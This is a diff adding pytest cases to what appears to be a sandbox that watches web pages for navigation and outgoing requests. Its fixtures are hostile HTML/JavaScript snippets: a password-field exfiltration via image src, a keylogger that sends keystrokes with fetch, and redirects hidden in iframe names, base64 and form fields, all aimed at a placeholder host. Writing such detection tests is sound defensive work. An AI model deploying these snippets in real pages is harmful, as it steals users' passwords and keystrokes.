@@ -253,3 +253,21 @@ def test_words_of_the_mail_are_typed(field, use):
 def test_pictures_that_carry_away_what_was_typed():
     page = f"<img id=i src='{TO}'><input type=password onchange=\"i.src='{TO}?'+this.value\"><script>new Image().src='{TO}'</script>"
     assert [(act.phase, act.detail.partition("?")[0]) for act in on_stage(page).of("asks")] == [("click", TO)]
+
+
+@pytest.mark.parametrize("source", [
+    f"<iframe name='{B64}' src='about:blank'></iframe><script>onload=()=>{{if(length==1)location=atob(frames[0].name)}}</script>",
+    f"<iframe name=here src='about:blank'></iframe><script>onload=()=>{{if(here.name=='here'&&here.document)location='{TO}'}}</script>",
+    f"<script>var f=document.createElement('form');f.innerHTML='<input name=p>';f.p.value='{TO}';location=f.p.value</script>",
+])
+def test_frames_and_fields_by_their_names(source):
+    assert led(source) == {("goes", "load", TO)}
+
+
+def test_what_is_typed_without_a_field():
+    page = f"<script>let q='';document.onkeyup=e=>{{if(e.code=='Enter')fetch('{TO}?'+q);else q+=e.key}}</script>"
+    assert ("asks", "click", f"{TO}?123456") in led(page)
+
+
+def test_words_that_are_drawn_are_shown():
+    assert "Your code" in on_stage("<canvas></canvas><script>document.querySelector('canvas').getContext('2d').fillText('Your code',1,1)</script>").shown
